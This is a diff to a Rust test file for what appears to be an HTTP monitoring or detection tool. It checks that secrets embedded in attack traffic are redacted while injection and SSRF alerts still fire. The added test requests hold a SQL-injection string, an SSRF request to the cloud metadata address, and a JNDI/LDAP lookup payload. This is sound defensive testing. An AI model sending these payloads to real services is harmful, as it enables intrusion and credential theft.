@@ -34,6 +34,9 @@ const SECRETS: &[&str] = &[
     "cHJveHk6UFJPWFlTRUNSRVQzMQ==",
     "QUERYTOKEN5150",
     "USERINFOPASS66",
+    "INJECTEDPASS12",
+    "HOOKPASS34",
+    "XAUTHTOKEN56",
 ];
 
 fn exchanges() -> Vec<(String, String)> {
@@ -72,6 +75,15 @@ fn exchanges() -> Vec<(String, String)> {
             ok("{}", ""),
         ),
         ("GET http://carol:USERINFOPASS66@api/x?y=1 HTTP/1.1\r\nHost: api\r\n\r\n".into(), ok("{}", "")),
+        // attack payloads inside secrets must not be quoted as alert evidence
+        (
+            "GET /api/login?user=x&password=%27%20OR%201%3D1--INJECTEDPASS12 HTTP/1.1\r\nHost: api\r\n\r\n".into(),
+            ok("{}", ""),
+        ),
+        (
+            "GET /api/hook?webhook=http://admin:HOOKPASS34@169.254.169.254/latest HTTP/1.1\r\nHost: api\r\nX-Auth-Token: ${jndi:ldap://x/XAUTHTOKEN56}\r\n\r\n".into(),
+            ok("{}", ""),
+        ),
     ]
 }
 
@@ -99,7 +111,12 @@ fn no_secret_leaves_in_the_clear_in_any_event_or_sink() {
     let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
     assert_eq!(
         stdout.lines().filter(|l| l.contains("\"event_type\":\"http\"")).count(),
-        9,
+        11,
+        "{stdout}"
+    );
+    // the payloads were seen (alerts), only their secrets are withheld
+    assert!(
+        stdout.contains("\"type\":\"injection\"") && stdout.contains("\"type\":\"ssrf\""),
         "{stdout}"
     );
     for (name, text) in [("stdout", &stdout), ("file", &file), ("stderr", &stderr)] {
